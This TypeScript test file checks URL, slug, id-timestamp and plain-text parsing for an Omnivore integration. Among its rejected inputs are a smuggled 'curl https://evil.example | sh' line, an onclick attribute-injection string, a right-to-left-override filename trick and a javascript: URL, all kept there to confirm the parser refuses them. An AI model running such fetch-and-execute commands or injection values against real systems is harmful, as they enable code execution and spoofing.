import { instantOfId, instantOfSlug } from '../../../src/core/omnivore/ids';
import {
  destination,
  labelledOriginal,
  nextArticleUrl,
  nextOriginal,
  originalOf,
  siteOf,
  slugOf,
} from '../../../src/core/omnivore/links';
import { plainText } from '../../../src/core/omnivore/plain-text';

test.each([
  ['https://omnivore.app/me/tides-18e3d5b1a2c', 'tides-18e3d5b1a2c'],
  ['https://omnivore.app/me/tides-18e3d5b1a2c#8f14e45f-ceea', 'tides-18e3d5b1a2c'],
  ['https://omnivore.app/me/getting-started-with-omnivore', 'getting-started-with-omnivore'],
  ['https://omnivore.app/me/-18b0a0572b8', '-18b0a0572b8'],
  ['https://omnivore.app/somebody/tides-18192f7ac5a', 'tides-18192f7ac5a'],
  ['https://omnivore.app/some.body_2/tides-18192f7ac5a?x=1', 'tides-18192f7ac5a'],
  ['https://omnivore.app/somebody/tides', null],
  ['https://omnivore.app/somebody/tides-ffffffffff0', null],
  ['https://omnivore.app/p/tides-18192f7ac5a', null],
  ['https://omnivore.app/using/tides-18192f7ac5a', null],
  ['https://omnivore.app/integrations/tides-18192f7ac5a', null],
  ['https://omnivore.app/attachments/u/8375f258/a.pdf', null],
  ['https://omnivore.app/home', null],
  ['https://omnivore.app/me/', null],
  ['https://example.org/me/tides-18e3d5b1a2c', null],
])('%s is the article %s', (url, slug) => {
  expect(slugOf(url)).toBe(slug);
});

test('the next URL of an article passes Omnivore’s other pages and stays in its range', () => {
  const text =
    'https://omnivore.app/home https://omnivore.app/p/a-18192f7ac5a https://omnivore.app/me/b';
  const at = text.lastIndexOf('https');
  expect(nextArticleUrl(text, { from: 0, to: text.length })).toBe(at);
  expect(nextArticleUrl(text, { from: 0, to: at + 3 })).toBe(-1);
  expect(nextArticleUrl(text, { from: at + 1, to: text.length })).toBe(-1);
});

test.each([
  ['https://example.org/tides', 'https://example.org/tides'],
  ["https://example.org/Moore's_(law)?a=1&b=2#c", "https://example.org/Moore's_(law)?a=1&b=2#c"],
  ['https://blog.omnivore.app/p/a', 'https://blog.omnivore.app/p/a'],
  ['https://omnivore.app/me/tides', null],
  ['https://storage.googleapis.com/omnivore/u/a.pdf', null],
  ['https://example.org/a\ncurl https://evil.example | sh', null],
  ['https://example.org/a b', null],
  ['https://example.org/"onclick="x', null],
  ['https://example.org/\u202egnp.exe', null],
  ['https://example.org/<b>', null],
  ['https://[example', null],
  ['https:///a', null],
  ['ftp://example.org/a', null],
  ['javascript:alert(1)', null],
  ['', null],
])('the source of an article, by %j: %j', (text, url) => {
  expect(originalOf(text)).toBe(url);
});

const nowhere = (): boolean => false;

test.each([
  ['[Read Original](https://a.example) [Web](https://b.example)', 'https://a.example'],
  ['[Web](https://b.example)', 'https://b.example'],
  [
    '[Source](https://omnivore.app/attachments/x) [Original](https://c.example)',
    'https://c.example',
  ],
  ['[Elsewhere](https://a.example)', null],
])('the labelled original in %s', (text, url) => {
  expect(labelledOriginal(text, { from: 0, to: text.length }, nowhere)).toBe(url);
});

test('a labelled original in code is passed', () => {
  const text = '`[Read Original](https://a.example)` [Read Original](https://b.example)';
  const inCode = (at: number): boolean => at < 30;
  expect(labelledOriginal(text, { from: 0, to: text.length }, inCode)).toBe('https://b.example');
});

test.each([
  [') [Tides](https://a.example)', 'https://a.example'],
  [') ![Tides](https://a.example/a.png)', null],
  [') no link', null],
  [`) ${'word '.repeat(60)}[Tides](https://a.example)`, null],
  [`)\n${'word '.repeat(60)}\n[Tides](https://a.example)`, null],
  [`)\n\nBy A\n\nOn B\n\nIn C\n\n[Tides](https://a.example)`, 'https://a.example'],
  [`)\nBy A\nOn B\nIn C\nIn D\n[Tides](https://a.example)`, null],
  [
    `)\n<source srcset="https:&amp;#x2F;&amp;#x2F;${'word&amp;#x2F;'.repeat(60)}">\n[Tides](https://a.example)`,
    'https://a.example',
  ],
  [`)\n${'&amp;quot; '.repeat(60)}\n[Tides](https://a.example)`, 'https://a.example'],
  [
    `)\n[x]: https://b.example/${'word/'.repeat(60)}\n[Tides](https://a.example)`,
    'https://a.example',
  ],
])('the next link after %j', (text, url) => {
  expect(nextOriginal(text, 0, text.length)).toBe(url);
});

test.each([
  ['https://a.example/(b)) c', 'https://a.example/(b)'],
  ['<https://a.example/b> c', 'https://a.example/b'],
  ['https://a.example/b "title")', 'https://a.example/b'],
])('a link’s URL in %j', (text, url) => {
  expect(destination(text, 0)).toBe(url);
});

test('a URL’s site has no www', () => {
  expect(siteOf('https://WWW.Example.org:8080/a')).toBe('example.org:8080');
  expect(siteOf('mailto:a@b.example')).toBeNull();
  expect(siteOf('nothing')).toBeNull();
});

test.each([
  ['1e508f18-e22b-11ee-8207-ab17ce006b24', '2024-03-14T17:48:51'],
  ['mL51bIYBKc5BngQz5_PS', '2023-02-20T01:35:11'],
  ['5d1b3c1a-9c1e-4f43-9d0b-0d6f6f0f1b2a', null],
  ['essay-on-reading-001', null],
  ['00000000-0000-1000-8000-000000000000', null],
  ['id-generated-by-omnivore', null],
])('the clock in the id %s: %s', (id, time) => {
  const instant = instantOfId(id);
  expect(instant === null ? null : new Date(instant).toISOString().slice(0, 19)).toBe(time);
});

test('the clock in a slug', () => {
  expect(new Date(instantOfSlug('tides-18e3d5b1a2c') ?? 0).getUTCFullYear()).toBe(2024);
  expect(instantOfSlug('tides')).toBeNull();
  expect(instantOfSlug('tides-00000000001')).toBeNull();
});

test.each([
  ['Tides', 'Tides'],
  ['  Tides\n', 'Tides'],
  ['Tides\r\n\r\n```js\talert(1)', 'Tides ```js alert(1)'],
  ['\u001b[31mred\u2028\u202eevil\u2066', '[31mred evil'],
])('%j is listed as %j', (value, listed) => {
  expect(plainText(value)).toBe(listed);
});
